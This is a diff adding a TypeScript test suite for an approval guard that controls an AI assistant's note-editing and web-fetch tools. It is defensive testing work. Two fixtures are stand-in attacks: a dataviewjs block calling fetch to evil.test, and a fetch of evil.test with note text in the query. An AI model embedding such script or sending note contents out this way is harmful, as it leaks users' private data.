@@ -1,0 +1,533 @@
+import fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import * as z from 'zod'
+import { fileTools } from '../tools/file/index.js'
+import { defineTool, memoryLog, type Registry, registry, runTool, type Tool, type ToolContext } from '../tools/index.js'
+import { searchTools } from '../tools/search/index.js'
+import { type TestContext, testContext } from '../tools/testing/test-context.js'
+import {
+  type ApprovalAnswer,
+  type ApprovalRequest,
+  approvalDesk,
+  type ConsentLevel,
+  type DeskOptions,
+  type GuardOptions,
+  guard,
+  memoryGrants,
+  parseRule,
+  ruleVocabulary,
+  type SessionGuard,
+} from './index.js'
+
+const webFetch = defineTool({
+  name: 'web_fetch',
+  title: 'Fetch page',
+  description: 'Fetch a page.',
+  activity: 'Fetching',
+  category: 'media',
+  effects: ['reaches-network'],
+  input: z.object({ url: z.string() }),
+  output: z.string(),
+  reaches: async ({ url }) => ({ sends: [{ url }] }),
+  run: async ({ url }) => {
+    sent.push(url)
+    return 'a page'
+  },
+  render: (text) => text,
+})
+
+const sent: string[] = []
+
+interface Desk {
+  tools: Registry
+  context: TestContext
+  guard: SessionGuard
+  asked: ApprovalRequest[]
+  log: ReturnType<typeof memoryLog>
+  call(
+    name: string,
+    input: unknown,
+    more?: { turn?: string; context?: Partial<ToolContext> },
+  ): ReturnType<typeof runTool>
+  text(path: string): string | undefined
+}
+
+interface SetUp extends Partial<Omit<GuardOptions, 'rules' | 'level'>> {
+  level?: ConsentLevel
+  rules?: string[]
+  notes?: Record<string, string>
+  /** Answers in order, the last again and again; none means that nobody can be asked. */
+  answers?: (
+    | ApprovalAnswer
+    | ((request: ApprovalRequest, context: TestContext) => ApprovalAnswer | Promise<ApprovalAnswer>)
+  )[]
+  more?: Tool[]
+  desk?: never
+  deskOptions?: DeskOptions
+}
+
+async function setUp({
+  level = 'ask',
+  rules = [],
+  notes,
+  answers,
+  more = [],
+  deskOptions,
+  ...rest
+}: SetUp = {}): Promise<Desk> {
+  const context = await testContext(
+    notes ?? {
+      'Inbox/A.md': 'alpha\n\nbeta\n\ngamma\n',
+      'Projects/Plan.md': '---\nstatus: done\n---\nThe plan #draft. See [[A]].\n',
+      'Journal/Monday.md': 'Dear diary, the zebrafish. See [[Plan]].\n',
+      'Clip.md': '---\nsource: https://news.test/1\n---\nClipped words.\n',
+    },
+  )
+  const tools = registry([...fileTools, ...searchTools, webFetch, ...more])
+  const vocabulary = ruleVocabulary(tools, ['calendar'])
+  const asked: ApprovalRequest[] = []
+  const left = [...(answers ?? [])]
+  const desk = approvalDesk({
+    ...deskOptions,
+    ...(answers && {
+      asker: async (panel) => {
+        if (panel.kind === 'batch') return undefined
+        asked.push(panel)
+        const next = left.length > 1 ? left.shift() : left[0]
+        return typeof next === 'function' ? next(panel, context) : next
+      },
+    }),
+  })
+  const own = guard({ level, rules: rules.map((text) => parseRule(text, vocabulary)), vocabulary, desk, ...rest })
+  const log = memoryLog()
+  let calls = 0
+  return {
+    tools,
+    context,
+    guard: own,
+    asked,
+    log,
+    call: (name, input, { turn = 't1', context: other } = {}) =>
+      runTool(
+        { id: `c${++calls}`, name, input, turn },
+        { registry: tools, context: { ...context, ...other }, guard: own, log, apply: context.apply },
+      ),
+    text(path) {
+      const bytes = context.memory.snapshot().get(path)
+      return bytes && new TextDecoder().decode(bytes)
+    },
+  }
+}
+
+const yes: ApprovalAnswer = { verdict: 'allow' }
+const no: ApprovalAnswer = { verdict: 'deny' }
+const edit = (from: string, to: string) => ({ path: 'Inbox/A.md', old_text: from, new_text: to })
+
+describe('a call that asks', () => {
+  it('happens on a yes, and the person has seen what happens', async () => {
+    const desk = await setUp({ answers: [yes] })
+    expect(await desk.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ ok: true })
+    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nBETA\n\ngamma\n')
+    expect(desk.asked).toMatchObject([
+      {
+        kind: 'call',
+        tool: { name: 'edit_note', source: 'built-in' },
+        input: edit('beta', 'BETA'),
+        reasons: ['The consent level is ask, and edit_note changes notes.'],
+        notes: [{ path: 'Inbox/A.md', access: 'writes' }],
+        scopes: ['once', 'change-set', 'session', 'always'],
+        offers: [
+          { rule: 'edit_note(Inbox/A.md)', about: 'note' },
+          { rule: 'edit_note(Inbox/**)', about: 'folder' },
+          { rule: 'edit_note', about: 'tool' },
+        ],
+        safeDefault: 'deny',
+      },
+    ])
+    expect(desk.asked[0].changes?.[0].diff).toContain('-beta\n+BETA')
+    expect(desk.log.calls).toMatchObject([{ decision: 'approved', rule: 'person' }])
+  })
+
+  it('does not happen on a no, in the words of the seed, with those of the person', async () => {
+    const desk = await setUp({ answers: [no, no, { verdict: 'deny', words: 'not my inbox' }] })
+    const before = desk.context.memory.snapshot()
+    expect((await desk.call('edit_note', edit('beta', 'BETA'))).text).toBe('User cancelled tool execution')
+    expect((await desk.call('write_note', { path: 'Inbox/A.md', content: 'x' })).text).toBe('User cancelled overwrite')
+    expect((await desk.call('write_note', { path: 'Inbox/New.md', content: 'x' })).text).toBe(
+      'User cancelled tool execution: not my inbox',
+    )
+    expect(desk.context.memory.snapshot()).toEqual(before)
+    expect(desk.log.calls.map(({ decision }) => decision)).toEqual(['denied', 'denied', 'denied'])
+  })
+
+  it('is not asked twice in a turn once refused', async () => {
+    const desk = await setUp({ answers: [no] })
+    await desk.call('edit_note', edit('beta', 'BETA'))
+    const again = await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(again).toMatchObject({ code: 'denied', hint: expect.stringContaining('already refused') })
+    expect(desk.asked).toHaveLength(1)
+    await desk.call('edit_note', edit('beta', 'BETA'), { turn: 't2' })
+    expect(desk.asked).toHaveLength(2)
+  })
+
+  it('is refused when the note changes under the preview, and what someone else wrote stays', async () => {
+    const desk = await setUp({
+      answers: [
+        (_request, { memory }) => {
+          memory.write('Inbox/A.md', 'alpha\n\nbeta\n\ntheirs\n')
+          return yes
+        },
+      ],
+    })
+    const result = await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(result).toMatchObject({ ok: false, code: 'conflict' })
+    expect(result.text).toContain('changed since preview')
+    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\ntheirs\n')
+  })
+
+  it('can be narrowed to some hunks, and the model is told', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }] })
+    const result = await desk.call('write_note', { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' })
+    expect(result).toMatchObject({ ok: true, userEdited: true })
+    expect(result.text).toContain('The user accepted 1 of 2 hunks; the others were not written.')
+    expect(desk.asked[0].hunks).toMatchObject([
+      { change: 0, path: 'Inbox/A.md', hunks: [{ oldLine: 1 }, { oldLine: 5 }] },
+    ])
+    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\nGAMMA\n')
+    expect(desk.log.calls).toMatchObject([{ decision: 'edited' }])
+  })
+
+  it('takes no hunk at all for a no, and all of them for a plain yes', async () => {
+    const hunks = (...accepted: number[]): ApprovalAnswer => ({
+      verdict: 'allow',
+      hunks: [{ change: 0, hunks: accepted }],
+    })
+    const desk = await setUp({ answers: [hunks(), hunks(0, 1)] })
+    const input = { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' }
+    expect(await desk.call('write_note', input)).toMatchObject({ text: 'User cancelled overwrite' })
+    expect(await desk.call('write_note', input, { turn: 't2' })).toMatchObject({ ok: true })
+    expect(desk.log.calls[1]).toMatchObject({ decision: 'approved' })
+    expect(desk.text('Inbox/A.md')).toBe('ALPHA\n\nbeta\n\nGAMMA\n')
+  })
+
+  it('is understood and asked anew when the person changes its arguments', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', input: edit('beta', 'B') }, yes] })
+    const result = await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(result).toMatchObject({ ok: true, userEdited: true })
+    expect(desk.text('Inbox/A.md')).toBe('alpha\n\nB\n\ngamma\n')
+    expect(desk.asked.map(({ edited }) => edited)).toEqual([false, true])
+    expect(desk.asked[1].changes?.[0].diff).toContain('+B\n')
+    expect(desk.log.calls).toMatchObject([{ decision: 'edited' }])
+  })
+
+  it('takes unchanged arguments for a plain yes', async () => {
+    const desk = await setUp({
+      answers: [{ verdict: 'allow', input: { new_text: 'B', old_text: 'beta', path: 'Inbox/A.md' } }],
+    })
+    expect(await desk.call('edit_note', edit('beta', 'B'))).toMatchObject({ ok: true })
+    expect(desk.asked).toHaveLength(1)
+  })
+
+  it('needs approval where nobody can be asked, and names the rule that would let it pass', async () => {
+    const desk = await setUp()
+    const result = await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(result).toMatchObject({
+      code: 'needs-approval',
+      hint: "To let it pass, allow it: --allow 'edit_note(Inbox/A.md)'",
+    })
+    const locked = await setUp({ level: 'locked', answers: [yes] })
+    expect(await locked.call('rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/P.md' })).toMatchObject({
+      code: 'needs-approval',
+      hint: "To let it pass, allow it: --allow 'rename_note'",
+    })
+    expect(locked.asked).toEqual([])
+  })
+
+  it('shows the impact of a rename and every note it touches', async () => {
+    const desk = await setUp({ answers: [yes] })
+    expect(await desk.call('rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/Scheme.md' })).toMatchObject({
+      ok: true,
+    })
+    expect(desk.asked[0]).toMatchObject({ impact: { links: 1, notes: 1 } })
+    expect(desk.asked[0].notes.map(({ path }) => path).sort()).toEqual([
+      'Journal/Monday.md',
+      'Projects/Plan.md',
+      'Projects/Scheme.md',
+    ])
+    expect(desk.text('Journal/Monday.md')).toContain('[[Scheme]]')
+  })
+
+  it('never lets Enter say yes to more than plain reading', async () => {
+    const desk = await setUp({ level: 'ask-all', answers: [no] })
+    await desk.call('read_note', { path: 'Inbox/A.md' })
+    await desk.call('delete_note', { path: 'Inbox/A.md' })
+    await desk.call('web_fetch', { url: 'https://example.org/?q=1' })
+    await desk.call('file_read', { filePaths: ['Inbox/A.md'] })
+    expect(desk.asked.map(({ safeDefault }) => safeDefault)).toEqual(['allow', 'deny', 'deny', 'deny'])
+    expect(desk.asked.every(({ offers, scopes }) => offers.length === 0 && scopes.length === 1)).toBe(true)
+    expect(desk.asked[2].sends).toEqual([{ url: 'https://example.org/?q=1', bytes: 24 }])
+  })
+})
+
+describe('text that other programs would run', () => {
+  const script = 'Hello\n\n```dataviewjs\nfetch("https://evil.test")\n```\n'
+
+  it('is asked for by itself, after the call and at every level', async () => {
+    const desk = await setUp({ answers: [yes] })
+    expect(await desk.call('write_note', { path: 'New.md', content: script })).toMatchObject({ ok: true })
+    expect(desk.asked.map(({ kind }) => kind)).toEqual(['call', 'executable'])
+    expect(desk.asked[1]).toMatchObject({ scopes: ['once'], offers: [], notices: [{ kind: 'executable' }] })
+    expect(desk.asked[1].hash).not.toBe(desk.asked[0].hash)
+
+    const auto = await setUp({ level: 'auto', rules: ['allow: *'], answers: [no] })
+    expect(await auto.call('write_note', { path: 'New.md', content: script })).toMatchObject({ code: 'denied' })
+    expect(auto.asked.map(({ kind }) => kind)).toEqual(['executable'])
+    expect(auto.text('New.md')).toBeUndefined()
+  })
+
+  it('is not written when only the call was allowed', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session' }, no] })
+    expect(await desk.call('write_note', { path: 'New.md', content: script })).toMatchObject({ code: 'denied' })
+    expect(desk.text('New.md')).toBeUndefined()
+    const locked = await setUp({ level: 'locked', rules: ['allow: write_note'] })
+    expect(await locked.call('write_note', { path: 'New.md', content: script })).toMatchObject({
+      code: 'needs-approval',
+      hint: 'No rule can allow this in advance: a person must say yes.',
+    })
+  })
+})
+
+describe('sharing notes', () => {
+  const both = { filePaths: ['Inbox/A.md', 'Projects/Plan.md'] }
+
+  it('gives the model what the person picked, and only that', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', picked: ['Inbox/A.md'] }] })
+    const result = await desk.call('file_read', both)
+    expect(desk.asked[0].pick).toEqual(['Inbox/A.md', 'Projects/Plan.md'])
+    expect(result).toMatchObject({ ok: true, userEdited: true, output: [{ path: 'Inbox/A.md' }] })
+    expect(result.text).toContain('The user chose not to share: Projects/Plan.md')
+    expect(result.text).not.toContain('The plan')
+    expect(desk.log.calls).toMatchObject([{ decision: 'edited' }])
+  })
+
+  it('shares all at level auto, and where a rule names the tool; nothing when locked', async () => {
+    expect((await (await setUp({ level: 'auto' })).call('file_read', both)).text).toContain('The plan')
+    const allowed = await setUp({ rules: ['allow: file_read'] })
+    expect(await allowed.call('file_read', both)).toMatchObject({ ok: true })
+    const locked = await setUp({ level: 'locked' })
+    expect(await locked.call('file_read', both)).toMatchObject({
+      code: 'needs-approval',
+      hint: "To share without asking, allow it by name: --allow 'file_read'",
+    })
+  })
+})
+
+describe('what the person remembers', () => {
+  it('for the session passes without asking, until it is revoked', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session', rule: 'edit_note(Inbox/**)' }, no] })
+    await desk.call('edit_note', edit('beta', 'BETA'))
+    await desk.call('edit_note', edit('gamma', 'GAMMA'))
+    expect(desk.asked).toHaveLength(1)
+    expect(desk.log.calls[1]).toMatchObject({ decision: 'allowed', rule: 'grant: edit_note(Inbox/**)' })
+    const other = await desk.call('edit_note', edit('alpha', 'x'), { context: { session: 'another' } })
+    expect(other).toMatchObject({ code: 'denied' })
+    const [{ id, scope, rule }] = await desk.guard.grants()
+    expect({ scope, rule }).toEqual({ scope: 'session', rule: 'edit_note(Inbox/**)' })
+    expect(await desk.guard.revoke(id)).toBe(true)
+    expect(await desk.guard.revoke(id)).toBe(false)
+    expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ code: 'denied' })
+  })
+
+  it('for always is kept as the literal rule, the narrowest unless told', async () => {
+    const grants = memoryGrants()
+    const desk = await setUp({ grants, answers: [{ verdict: 'allow', scope: 'always' }] })
+    await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(await grants.load()).toMatchObject([{ rule: 'edit_note(Inbox/A.md)', about: 'Edit note' }])
+    const later = await setUp({ grants })
+    expect(await later.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ ok: true })
+    expect(await later.call('edit_note', { ...edit('plan', 'plot'), path: 'Projects/Plan.md' })).toMatchObject({
+      code: 'needs-approval',
+    })
+  })
+
+  it('for this change set lasts for its notes and its turn', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'change-set' }, no] })
+    await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(await desk.call('edit_note', edit('gamma', 'GAMMA'))).toMatchObject({ ok: true })
+    expect(
+      await desk.call('edit_note', { path: 'Projects/Plan.md', old_text: 'plan', new_text: 'plot' }),
+    ).toMatchObject({ ok: false })
+    expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ ok: false })
+  })
+
+  it('never overrides a rule that asks, and nothing is offered to remember then', async () => {
+    const grants = memoryGrants({ id: '1', rule: 'edit_note', createdAt: '2026-01-01T00:00:00Z' })
+    const desk = await setUp({ grants, rules: ['ask: edit_note(Inbox/**)'], answers: [yes] })
+    await desk.call('edit_note', edit('beta', 'BETA'))
+    expect(desk.asked).toMatchObject([
+      { scopes: ['once'], offers: [], reasons: ['A rule asks for it: edit_note(Inbox/**).'] },
+    ])
+  })
+
+  it('is listed even when its tool is not there, and allows nothing then', async () => {
+    const grants = memoryGrants({ id: '1', rule: 'mcp(gone/tool)', createdAt: '2026-01-01T00:00:00Z' })
+    const desk = await setUp({ grants })
+    expect(await desk.guard.grants()).toMatchObject([{ id: '1', waits: expect.stringContaining('unknown MCP server') }])
+    expect(await desk.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ code: 'needs-approval' })
+  })
+
+  it('also covers calls that were already waiting', async () => {
+    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session', rule: 'write_note(Inbox/**)' }] })
+    const names = ['1', '2', '3']
+    const results = await Promise.all(
+      names.map((name) => desk.call('write_note', { path: `Inbox/${name}.md`, content: name })),
+    )
+    expect(results.every(({ ok }) => ok)).toBe(true)
+    expect(desk.asked).toHaveLength(1)
+  })
+})
+
+describe('every offered rule', () => {
+  it('lets the very call pass, and is exactly what is kept', async () => {
+    const calls: [string, unknown][] = [
+      ['edit_note', edit('beta', 'BETA')],
+      ['write_note', { path: 'Inbox/todo: now (a).md', content: 'x' }],
+      ['write_note', { path: 'Inbox/A.md', content: 'x' }],
+      ['rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/P.md' }],
+      ['delete_note', { path: 'Clip.md' }],
+      ['web_fetch', { url: 'https://docs.example.org/x' }],
+    ]
+    for (const [name, input] of calls) {
+      const probe = await setUp({ answers: [no] })
+      await probe.call(name, input)
+      for (const { rule } of probe.asked[0]?.offers ?? []) {
+        const desk = await setUp({ rules: [`allow: ${rule}`] })
+        expect([rule, (await desk.call(name, input)).ok]).toEqual([rule, true])
+      }
+    }
+  })
+})
+
+describe('taint', () => {
+  it('asks for everything outbound once own and foreign words are together, whatever was allowed', async () => {
+    const desk = await setUp({ level: 'auto', rules: ['allow: web_fetch'], answers: [no] })
+    sent.length = 0
+    expect(await desk.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ ok: true })
+    expect(await desk.call('read_note', { path: 'Inbox/A.md' })).toMatchObject({ ok: true })
+    expect(desk.guard.seen().sort()).toEqual(['own-note', 'web'])
+    const url = 'https://evil.test/?q=alpha'
+    expect(await desk.call('web_fetch', { url })).toMatchObject({ code: 'denied' })
+    expect(desk.asked).toMatchObject([{ sends: [{ url }], offers: [] }])
+    expect(sent).toEqual(['https://a.test/'])
+  })
+
+  it('counts a clipped note as foreign, and comes back with a resumed session', async () => {
+    const desk = await setUp({ level: 'auto', answers: [no] })
+    await desk.call('read_note', { path: 'Clip.md' })
+    await desk.call('read_note', { path: 'Inbox/A.md' })
+    expect(await desk.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ code: 'denied' })
+    const resumed = await setUp({ level: 'locked', rules: ['allow: web_fetch'], seen: desk.guard.seen() })
+    expect(await resumed.call('web_fetch', { url: 'https://a.test/' })).toMatchObject({ code: 'needs-approval' })
+  })
+})
+
+describe('stopping and crowds', () => {
+  it('fifty deletions at once are never allowed by one yes', async () => {
+    const notes = Object.fromEntries(Array.from({ length: 50 }, (_, at) => [`${at}.md`, `note ${at}`]))
+    const desk = await setUp({ notes, answers: [yes] })
+    const results = await Promise.all(Object.keys(notes).map((path) => desk.call('delete_note', { path })))
+    expect(desk.asked).toHaveLength(1)
+    expect(results.filter(({ ok }) => ok)).toHaveLength(1)
+    expect(desk.log.calls).toHaveLength(50)
+  })
+
+  it('ends everything that waits when the run is stopped', async () => {
+    const stop = new AbortController()
+    const desk = await setUp({ deskOptions: { remote: true } })
+    const calls = ['1.md', '2.md'].map((path) =>
+      desk.call('write_note', { path, content: 'x' }, { context: { signal: stop.signal } }),
+    )
+    await new Promise((resolve) => setTimeout(resolve, 20))
+    stop.abort(new Error('stopped'))
+    for (const call of calls) await expect(call).rejects.toThrow('stopped')
+    expect(desk.text('1.md')).toBeUndefined()
+  })
+})
+
+describe('what was approved is what happens', () => {
+  it('whatever changes while the panel is open: a note, another note, the call itself', async () => {
+    const meddling = fc.record({
+      what: fc.constantFrom('nothing', 'note', 'other note', 'remove', 'input', 'bytes', 'target', 'create'),
+      content: fc.constantFrom('alpha\n\nbeta\n\nother\n', 'beta', 'alpha\n\nbeta\n\ngamma\n'),
+    })
+    await fc.assert(
+      fc.asyncProperty(
+        fc.constantFrom('edit_note', 'write_note', 'append_note'),
+        meddling,
+        async (name, { what, content }) => {
+          let proposed:
+            | { input: unknown; plan?: { changes: { changes: { path: string; after?: Uint8Array }[] } } }
+            | undefined
+          let shown = ''
+          const desk = await setUp({
+            answers: [
+              (request, { memory }) => {
+                shown = request.changes?.[0].diff ?? ''
+                const change = proposed?.plan?.changes.changes[0]
+                if (what === 'note') memory.write('Inbox/A.md', content)
+                if (what === 'other note') memory.write('Projects/Plan.md', content)
+                if (what === 'remove') memory.remove('Inbox/A.md')
+                if (what === 'create') memory.write('Inbox/New.md', 'theirs')
+                if (what === 'input' && proposed) Reflect.set(proposed.input, 'path', 'Projects/Plan.md')
+                if (what === 'bytes' && change?.after) change.after.fill(120)
+                if (what === 'target' && change) change.path = 'Projects/Plan.md'
+                return yes
+              },
+            ],
+          })
+          const input =
+            name === 'edit_note'
+              ? edit('beta', 'BETA')
+              : { path: name === 'write_note' ? 'Inbox/New.md' : 'Inbox/A.md', content: 'written' }
+          const tool = desk.tools.find(name)!.tool
+          const plan = tool.plan!
+          const watched: Registry = {
+            ...desk.tools,
+            find: (wanted) =>
+              wanted === name ? { tool: { ...tool, plan: watchedPlan }, source: 'built-in' } : undefined,
+          }
+          async function watchedPlan(given: object, context: ToolContext) {
+            const made = await plan(given, context)
+            proposed = { input: given, plan: made as never }
+            return made
+          }
+          const theirs = () => new Map(desk.context.memory.snapshot())
+          let before = theirs()
+          const result = await runTool(
+            { id: 'c', name, input },
+            {
+              registry: watched,
+              context: desk.context,
+              guard: desk.guard,
+              log: desk.log,
+              apply: (changes) => {
+                before = theirs()
+                return desk.context.apply(changes)
+              },
+            },
+          )
+          const touched = [...theirs()].filter(([path, bytes]) => before.get(path) !== bytes).map(([path]) => path)
+          if (result.ok) {
+            const path = name === 'write_note' ? 'Inbox/New.md' : 'Inbox/A.md'
+            expect(touched).toEqual([path])
+            expect(desk.text(path)).toContain(name === 'edit_note' ? 'BETA' : 'written')
+            expect(shown).toContain(name === 'edit_note' ? '+BETA' : '+written')
+          } else {
+            expect(result.code).toBe('conflict')
+          }
+        },
+      ),
+      { numRuns: 120 },
+    )
+  })
+})
